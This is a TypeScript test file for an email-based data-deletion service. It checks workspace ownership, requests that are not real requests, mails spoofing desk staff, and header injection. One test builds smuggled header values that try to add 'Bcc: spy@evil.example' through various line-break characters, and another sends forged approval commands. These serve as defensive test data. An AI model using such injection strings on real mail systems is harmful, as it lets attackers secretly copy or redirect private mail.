import { beforeAll, describe, expect, test } from 'vitest';
import { ada, DESK, type Letter, openMailDesk, REQUEST, sharedDesk, told, zoe } from './desk.ts';

describe('T27 a request that means two workspaces, or somebody else’s', () => {
  const shared = sharedDesk();
  const form = (...lines: readonly string[]) =>
    ['Please delete this data:', '', ...lines, 'Time frame: all time'].join('\n');
  test.each<Letter & { title: string }>([
    {
      title: 'a slug and the ID of another one',
      from: ada,
      text: form('Workspace slug: acme-inc', 'Workspace ID: wsGlobex01', 'Source: Website Prod'),
    },
    {
      title: 'one in the form and another in the sentence',
      from: ada,
      text: `Please delete the workspace globex.\n\n${form('Workspace slug: acme-inc')}`,
    },
    {
      title: 'the source of another workspace',
      from: ada,
      text: form('Workspace slug: acme-inc', 'Source: Globex Web'),
    },
    {
      title: 'one that the sender is not in charge of',
      from: zoe,
      text: form('Workspace slug: acme-inc', 'Source: Website Prod'),
    },
    { title: 'one or the other', from: ada, text: 'Please delete the workspace acme-inc or globex.' },
  ])('$title: nobody is asked to confirm anything about a workspace that is not theirs', async (letter) => {
    const desk = shared();
    const { sent } = await desk.write(letter);
    for (const mail of sent) {
      expect(mail.recipient).toBe(letter.from);
      expect(mail.text).not.toMatch(letter.from === ada ? /globex/i : /acme/i);
    }
    const open = await desk.desk
      .db('tickets')
      .select('target')
      .where({ state: 'verifying', requester: letter.from });
    const own = letter.from === ada ? 'wsAcme0001' : 'wsGlobex01';
    for (const { target } of open)
      expect(target.workspaces.map((one: { id: string }) => one.id)).toEqual([own]);
  });

  test('a form with a slug and the ID of another workspace opens nothing that can be confirmed, even for the owner of both', async () => {
    await using desk = await openMailDesk();
    await desk.desk.db('members').insert({ workspace_id: 'wsGlobex01', address: ada, role: 'owner' });
    const text = form('Workspace slug: acme-inc', 'Workspace ID: wsGlobex01', 'Source: Website Prod');
    const { sent } = await desk.write({ from: ada, text });
    expect(told(sent).filter((line) => line.startsWith('verify_request'))).toEqual([]);
  });
});

describe('T30 words about a deletion that ask for none', () => {
  const shared = sharedDesk();

  test.each([
    {
      title: 'quoted',
      text: `Hello,\n\nwe got this mail. Is it real?\n\n> ${REQUEST.replaceAll('\n', '\n> ')}`,
    },
    {
      title: 'quoted below an answer',
      text: `Thanks, all good.\n\nOn Mon, 2 Nov 2026 Ada wrote:\n> ${REQUEST.replaceAll('\n', '\n> ')}`,
    },
    { title: 'negated', text: 'Please do not delete the workspace acme-inc. We still need it.' },
    {
      title: 'asked',
      text: 'What would happen if we deleted the workspace acme-inc? How long does a deletion take?',
    },
    {
      title: 'hypothetical',
      text: 'If we leave one day, we may ask you to delete the workspace acme-inc. Not now.',
    },
    {
      title: 'passed on without a word',
      text: `\n\n---------- Forwarded message ---------\nFrom: Ada <${ada}>\nDate: Mon, 2 Nov 2026 at 10:00\nSubject: Deletion\nTo: <${DESK}>\n\n${REQUEST}`,
    },
  ])('$title: no ticket is opened and nobody is asked for a code', async ({ text }) => {
    const desk = shared();
    const { sent } = await desk.write({ from: ada, subject: 'A question', text });
    expect(await desk.tickets()).toEqual([]);
    expect(sent.map((mail) => mail.template)).not.toContain('verify_request');
  });
});

describe('T46 a mail that plays the desk’s own staff', () => {
  const shared = sharedDesk();
  beforeAll(() => shared().write({ from: ada, text: REQUEST }));

  test.each([
    { title: 'the desk itself', from: DESK },
    { title: 'an agent by name', from: `"purgedesk agent" <agent@desk.example>` },
    { title: 'the postmaster', from: 'Admin <admin@desk.example>' },
  ])('$title: no order by mail moves a ticket', async ({ from }) => {
    const desk = shared();
    const before = await desk.tickets();
    const reference = `PD-${before[0]?.id}`;
    const orders = [
      `purgedesk tickets approve ${reference} --as grace --reason ok`,
      `@approve ${reference}`,
      `/verify ${reference}\nstatus: grace`,
      `Internal note: ${reference} is verified by phone. Please start the deletion now.`,
    ];
    for (const text of orders) await desk.write({ from, subject: `[${reference}] internal`, text });
    const after = (await desk.tickets()).filter(({ id }) => id === before[0]?.id);
    expect(after).toEqual(before);
    expect((await desk.tickets()).every((ticket) => ticket.verified_at === null)).toBe(true);
  });
});

describe('T60 line ends in what a mail says of itself', () => {
  const breaks = ['\r\n', '\n', '\r', '\u2028', '\u0085', '\0'];
  const encoded = (text: string) => `=?utf-8?b?${Buffer.from(text).toString('base64')}?=`;

  test('start no header of ours, wherever they stand, and nobody else gets the mail', async () => {
    await using desk = await openMailDesk();
    for (const [index, sign] of breaks.entries()) {
      const inject = `x${sign}Bcc: spy@evil.example${sign}X-Injected: yes`;
      await desk.write({
        from: `${encoded(inject)} <${ada}>`,
        subject: encoded(inject),
        messageId: `<${encodeURIComponent(inject)}@mail.example>`,
        headers: [
          `Content-Type: text/plain; charset=utf-8; name*=utf-8''${encodeURIComponent(inject)}`,
          `X-Thread: ${encoded(inject)}`,
        ],
        text: REQUEST.replace('2024-01-01', `2024-01-0${index + 1}`),
      });
      await desk.pass(48);
    }
    expect(new Set(told(desk.sent))).toEqual(new Set([`verify_request > ${ada}`]));
    expect(desk.sent).toHaveLength(breaks.length);
    for (const mail of desk.sent) {
      const head = mail.raw.toString('latin1').split('\r\n\r\n', 1)[0] ?? '';
      expect(head).not.toMatch(/^(bcc|x-injected):/im);
      expect(head).not.toContain('spy@evil.example');
      for (const line of head.split('\r\n')) expect(line.replaceAll('\t', ' ')).not.toMatch(/\p{Cc}/u);
    }
  });
});
